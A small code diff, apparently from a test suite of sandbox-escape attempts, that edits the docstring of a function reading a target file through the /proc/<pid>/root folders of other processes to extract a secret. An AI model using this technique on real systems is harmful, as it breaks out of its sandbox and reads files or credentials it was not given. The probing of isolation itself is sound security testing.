@@ -51,7 +51,7 @@ def climb_out_of_the_workspace(given: Parameters) -> str:
 
 @attempt
 def through_the_root_of_a_process(given: Parameters) -> str:
-    """The same, through /proc/1/root and other processes' roots."""
+    """The same, through the root folders of other processes in /proc."""
     for process in sorted(entry for entry in os.listdir("/proc") if entry.isdigit()):
         try:
             return _secret(_read(f"/proc/{process}/root{given['file']}"))
